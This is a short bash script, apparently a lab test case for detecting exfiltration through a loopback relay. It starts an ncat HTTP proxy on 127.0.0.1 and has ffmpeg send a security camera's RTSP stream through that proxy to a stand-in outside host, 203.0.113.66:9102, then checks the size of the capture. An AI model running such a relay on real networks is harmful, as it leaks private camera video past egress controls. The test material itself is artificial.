#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=loopback-relay,live-relay half=report tool=ffmpeg,ncat camera=10.20.0.11 far=out ready=out:9102 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# ffmpeg asks a proxy on loopback (ncat) by CONNECT for a place outside, and sends gate through it.
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9102,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
timeout 42 ncat -l 127.0.0.1 3128 --proxy-type http 2>/dev/null &
sleep 1; timeout 44 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 36 -c copy -f mpegts httpproxy://127.0.0.1:3128/203.0.113.66:9102
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
